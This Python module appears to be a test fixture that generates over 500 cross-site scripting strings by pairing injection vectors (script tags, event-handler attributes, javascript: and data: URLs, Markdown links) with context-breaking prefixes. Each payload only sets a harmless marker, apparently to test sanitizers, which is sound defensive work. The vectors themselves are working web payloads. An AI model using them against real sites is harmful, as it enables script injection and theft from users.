"""Texts that would run a script wherever one of them is read as markup, as an address or as a style.

A page notes a hit in `window.__hit`.
"""

from __future__ import annotations

from itertools import product

HIT = "window.__hit=1"
MARKUP = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    "<img/src/onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    "<iframe src='javascript:parent.__hit=1'>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<marquee onstart={0}>",
    "<a href='javascript:{0}' autofocus onfocus={0}>x</a>",
    "<object data='javascript:{0}'>",
    "<embed src='javascript:{0}'>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<style>@import 'x';</style><style onload={0}>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<template><img src=x onerror={0}></template><img src=x onerror={0}>",
    "<form><button autofocus onfocus={0}>x</button></form>",
    "<div style='animation:x 1s' onanimationstart={0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>",
    "[x](javascript:{0})",
    "![x](javascript:{0})",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "x:expression({0})",
    "url(javascript:{0})",
    "' onmouseover={0} autofocus onfocus={0} x='",
    '" onmouseover={0} autofocus onfocus={0} x="',
)
# What breaks out of where a text may stand.
WAYS_OUT = (
    "{0}",
    "'>{0}",
    '">{0}',
    "-->{0}<!--",
    "]]>{0}",
    "</title>{0}",
    "</textarea>{0}",
    "</style>{0}",
    "</script>{0}",
    "</option></select>{0}",
    "{0}\u2028{0}",
    "\x00{0}",
    "`|{0}|`",
    "$&{0}$1",
)
TEXTS = tuple(out.format(markup.format(HIT)) for out, markup in product(WAYS_OUT, MARKUP))
assert len(TEXTS) > 500
